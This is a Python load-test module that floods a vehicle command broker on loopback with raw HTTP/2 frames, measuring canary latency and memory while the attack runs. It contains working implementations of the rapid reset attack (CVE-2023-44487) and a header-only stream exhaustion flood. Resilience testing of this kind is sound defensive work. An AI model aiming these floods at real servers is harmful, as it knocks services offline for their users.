"""Raw HTTP/2 floods from a peer with no credential, and what they cost the broker.

    python -m loadtests.h2flood                      # rapid reset 1,000,000 pairs / 60 s,
                                                     # then 20,000 header-only streams
    python -m loadtests.h2flood --pairs 200000 --streams 5000

Frames are written with the `h2` package (no gRPC client library), as an attacker would:

- **rapid reset** (CVE-2023-44487): on one connection, HEADERS of a SendCommand call
  followed at once by RST_STREAM(CANCEL), pair after pair, bounded by a count and a time;
- **header-only streams**: HEADERS of a unary call without END_STREAM and never a DATA
  frame, over several connections (each within the broker's advertised
  SETTINGS_MAX_CONCURRENT_STREAMS, as h2 enforces); the flood reports how many streams
  the broker answered (HEADERS/trailers, RST_STREAM, or the connection closed) and how
  long the slowest took.

Meanwhile a healthy car (VehicleAgent, with a token) gets an unlock every 0.2 s; the
report gives its latency, and the broker's RSS (/proc) before, at the peak and after.
The e2e test `tests/e2e/test_http2_abuse.py` runs a short version of the same floods.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import functools
import itertools
import json
import socket
import sys
import tempfile
import threading
import time
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

from broker.testing import LOOPBACK

#: the canary sends an unlock every 0.2 s: above the per-car critical quota's default
CANARY_QUOTA = {"BROKER_CRITICAL_PER_MINUTE": "1000000", "BROKER_CRITICAL_BURST": "1000"}
#: the unary method both floods aim at (any registered method will do)
SEND_COMMAND = "/broker.v1.CommandService/SendCommand"


def request_headers(target: str, path: str, metadata: Sequence[tuple[str, str]] = ()) -> list[Any]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", target),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *metadata,
    ]


class Http2Peer:
    """One raw HTTP/2 client connection: h2's state machine over a blocking socket, with
    a thread that reads what the server sends (acking its SETTINGS and PINGs, as a real
    client does) and records which streams it answered."""

    def __init__(self, host: str, port: int) -> None:
        self.target = f"{host}:{port}"
        self.sock = socket.create_connection((host, port), timeout=10)
        self.sock.settimeout(None)  # the reader blocks until the server speaks or closes
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self.lock = threading.Lock()
        self.answered: dict[int, float] = {}  # stream id -> monotonic time of its answer
        self.closed_at: float | None = None  # GOAWAY, EOF or a protocol error
        self.goaway: Any = None
        self.settings_received = threading.Event()
        self.conn.initiate_connection()
        self.sock.sendall(self.conn.data_to_send())
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self) -> None:
        try:
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    break
                with self.lock:
                    try:
                        events = self.conn.receive_data(data)
                    except h2.exceptions.ProtocolError:
                        break
                    now = time.monotonic()
                    for event in events:
                        if isinstance(
                            event,
                            h2.events.ResponseReceived
                            | h2.events.TrailersReceived
                            | h2.events.StreamReset
                            | h2.events.StreamEnded,
                        ):
                            self.answered.setdefault(event.stream_id, now)
                        elif isinstance(event, h2.events.RemoteSettingsChanged):
                            self.settings_received.set()
                        elif isinstance(event, h2.events.ConnectionTerminated):
                            self.goaway = event
                    out = self.conn.data_to_send()
                if out:
                    self.sock.sendall(out)
        except OSError:
            pass
        self.closed_at = time.monotonic()

    @property
    def open(self) -> bool:
        return self.closed_at is None and self.goaway is None

    def wait_settings(self, timeout_s: float = 5.0) -> None:
        """Until the server's SETTINGS arrived (so its stream limit is known)."""
        self.settings_received.wait(timeout_s)

    def send(self, build: Any) -> bool:
        """Run `build(conn)` under the lock and write what it produced; False once the
        connection is gone."""
        with self.lock:
            try:
                build(self.conn)
            except (h2.exceptions.ProtocolError, h2.exceptions.StreamClosedError):
                return False
            out = self.conn.data_to_send()
        try:
            self.sock.sendall(out)
        except OSError:
            return False
        return True

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.shutdown(socket.SHUT_RDWR)
        self.sock.close()
        self.settings_received.set()
        self._reader.join(5)


@dataclass
class FloodResult:
    kind: str
    sent: int = 0
    seconds: float = 0.0
    connections: int = 0
    answered: int = 0
    slowest_answer_s: float | None = None
    unanswered: int = 0
    goaways: list[str] = field(default_factory=list)

    def as_dict(self) -> dict[str, Any]:
        return {k: v for k, v in self.__dict__.items() if v not in (None, [])}


def _resets(headers: list[Any], count: int, conn: h2.connection.H2Connection) -> None:
    for _ in range(count):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, headers)
        conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)


def _opens(
    headers: list[Any], count: int, ids: list[int], conn: h2.connection.H2Connection
) -> None:
    for _ in range(count):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, headers)
        ids.append(stream_id)


def rapid_reset(
    host: str, port: int, *, pairs: int, duration_s: float, batch: int = 200
) -> FloodResult:
    """HEADERS + RST_STREAM(CANCEL) pairs on one connection until `pairs` were sent or
    `duration_s` passed; a new connection if the broker closes one (GOAWAY)."""
    result = FloodResult("rapid_reset")
    started = time.monotonic()
    while result.sent < pairs and time.monotonic() - started < duration_s:
        peer = Http2Peer(host, port)
        result.connections += 1
        peer.wait_settings()
        headers = request_headers(peer.target, SEND_COMMAND)
        try:
            while result.sent < pairs and time.monotonic() - started < duration_s:
                count = min(batch, pairs - result.sent)
                if not peer.open or not peer.send(functools.partial(_resets, headers, count)):
                    break
                result.sent += count
                # the stream id space of one connection ends at 2**31
                if result.sent % 500_000 == 0:
                    break
        finally:
            if peer.goaway is not None:
                result.goaways.append(str(peer.goaway.error_code))
            peer.close()
    result.seconds = round(time.monotonic() - started, 2)
    return result


def header_only(
    host: str,
    port: int,
    *,
    streams: int,
    hold_s: float,
    metadata: Sequence[tuple[str, str]] = (),
    path: str = SEND_COMMAND,
    per_connection: int | None = None,
) -> FloodResult:
    """Open `streams` unary streams that send HEADERS only (no END_STREAM, never DATA),
    each connection up to the broker's advertised stream limit (or `per_connection`),
    then wait up to `hold_s` for the broker to answer them all."""
    result = FloodResult("header_only")
    peers: list[Http2Peer] = []
    sent_at: dict[tuple[int, int], float] = {}
    started = time.monotonic()
    try:
        while result.sent < streams:
            peer = Http2Peer(host, port)
            peers.append(peer)
            peer.wait_settings()
            with peer.lock:
                limit = peer.conn.remote_settings.max_concurrent_streams
            room = min(limit, per_connection or limit, streams - result.sent, 20_000)
            headers = request_headers(peer.target, path, metadata)
            opened = 0
            while opened < room and peer.open:
                ids: list[int] = []
                count = min(100, room - opened)
                if not peer.send(functools.partial(_opens, headers, count, ids)):
                    break
                now = time.monotonic()
                for stream_id in ids:
                    sent_at[(len(peers) - 1, stream_id)] = now
                opened += len(ids)
            result.sent += opened
            if opened == 0:
                break
        result.seconds = round(time.monotonic() - started, 2)
        deadline = time.monotonic() + hold_s
        while time.monotonic() < deadline and _unanswered(peers, sent_at):
            time.sleep(0.05)
        slowest = 0.0
        for (index, stream_id), at in sent_at.items():
            peer = peers[index]
            answer = peer.answered.get(stream_id, peer.closed_at)
            if answer is None:
                result.unanswered += 1
            else:
                result.answered += 1
                slowest = max(slowest, answer - at)
        result.slowest_answer_s = round(slowest, 2)
        result.connections = len(peers)
        result.goaways = sorted({str(p.goaway.error_code) for p in peers if p.goaway})
    finally:
        for peer in peers:
            peer.close()
    return result


def _unanswered(peers: list[Http2Peer], sent_at: dict[tuple[int, int], float]) -> int:
    return sum(
        1
        for index, stream_id in sent_at
        if stream_id not in peers[index].answered and peers[index].closed_at is None
    )


# -- the whole run: a broker, a canary car, both floods ---------------------------------


async def canary(target: str, keys: Any, stop: asyncio.Event) -> tuple[list[float], list[str]]:
    """A healthy car, and a service sending it an unlock every 0.2 s until `stop`;
    returns each successful unlock's time from its first try to its result in seconds
    (a try refused before the broker accepted it is retried, same idempotency key), and
    the status of every refused try or failed unlock."""
    from broker.sdk.client import BrokerClient, BrokerRpcError
    from broker.sdk.vehicle import VehicleAgent, succeed
    from broker.v1 import types_pb2 as t

    agent = VehicleAgent(
        target, "canary", token=keys.vehicle_token("canary"), handlers={"unlock": succeed}
    )
    task = asyncio.create_task(agent.run())
    latencies: list[float] = []
    failures: list[str] = []
    try:
        await asyncio.wait_for(agent.connected.wait(), 10)
        token = keys.service_token("send", "read", name="h2flood")
        async with BrokerClient(target, token=token) as client:
            for number in itertools.count():
                if stop.is_set():
                    break
                sent = time.perf_counter()
                key = f"canary-{number}"  # a retried try is the same command
                for _ in range(20):
                    try:
                        reply = await client.send_command(
                            "canary", "unlock", idempotency_key=key, wait="result", timeout_s=10
                        )
                    except BrokerRpcError as error:  # refused before it was accepted
                        failures.append(error.code)
                        await asyncio.sleep(0.1)
                        continue
                    if reply.command.status == t.SUCCEEDED:
                        latencies.append(time.perf_counter() - sent)
                    else:
                        failures.append(t.CommandStatus.Name(reply.command.status))
                    break
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(stop.wait(), 0.2)
    finally:
        await agent.stop()
        task.cancel()
        with contextlib.suppress(BaseException):
            await task
    return latencies, failures


async def run(args: argparse.Namespace) -> dict[str, Any]:
    """Each flood against a fresh broker; prints and returns the figures."""
    from broker.testing import AuthKeys, BrokerProcess

    report: dict[str, Any] = {}
    for kind in ("rapid_reset", "header_only"):
        with tempfile.TemporaryDirectory(prefix="h2flood-") as tmp:
            keys = AuthKeys.create(Path(tmp))
            broker = BrokerProcess(
                Path(tmp) / "data", Path(tmp) / "broker.log", keys=keys, env=CANARY_QUOTA
            )
            await broker.astart()
            try:
                report[kind] = await one_flood(broker, kind, keys, args)
            finally:
                await broker.astop()
        print(json.dumps({kind: report[kind]}), flush=True)
    return report


async def one_flood(broker: Any, kind: str, keys: Any, args: argparse.Namespace) -> dict[str, Any]:
    """One flood against a fresh broker, the canary running throughout."""
    from broker.testing import status_kb
    from loadtests._util import latency_ms

    stop = asyncio.Event()
    car = asyncio.create_task(canary(broker.target, keys, stop))
    await asyncio.sleep(1)
    before = status_kb(broker.pid)
    peak = [before.get("VmRSS", 0)]
    sampling = threading.Event()

    def sample() -> None:
        while not sampling.is_set():
            peak[0] = max(peak[0], status_kb(broker.pid).get("VmRSS", 0))
            sampling.wait(0.1)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    try:
        if kind == "rapid_reset":
            flood = await asyncio.to_thread(
                rapid_reset, LOOPBACK, broker.port, pairs=args.pairs, duration_s=args.duration
            )
        else:
            flood = await asyncio.to_thread(
                header_only, LOOPBACK, broker.port, streams=args.streams, hold_s=args.hold
            )
        after = status_kb(broker.pid)
        await asyncio.sleep(5)
        settled = status_kb(broker.pid)
    finally:
        sampling.set()
        sampler.join()
        stop.set()
    latencies, failures = await car
    return {
        **flood.as_dict(),
        "rss_mb": {
            "before": round(before["VmRSS"] / 1024, 1),
            "peak": round(peak[0] / 1024, 1),
            "after": round(after["VmRSS"] / 1024, 1),
            "after_5s": round(settled["VmRSS"] / 1024, 1),
        },
        "canary_unlocks": len(latencies),
        "canary_failures": failures,
        "canary_latency_ms": latency_ms(latencies),
    }


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m loadtests.h2flood", description=__doc__)
    parser.add_argument("--pairs", type=int, default=1_000_000, help="rapid-reset pairs")
    parser.add_argument("--duration", type=float, default=60, help="rapid-reset seconds, at most")
    parser.add_argument("--streams", type=int, default=20_000, help="header-only streams")
    parser.add_argument("--hold", type=float, default=30, help="seconds to wait for answers")
    args = parser.parse_args(argv)
    asyncio.run(run(args))
    return 0


if __name__ == "__main__":
    sys.exit(main())
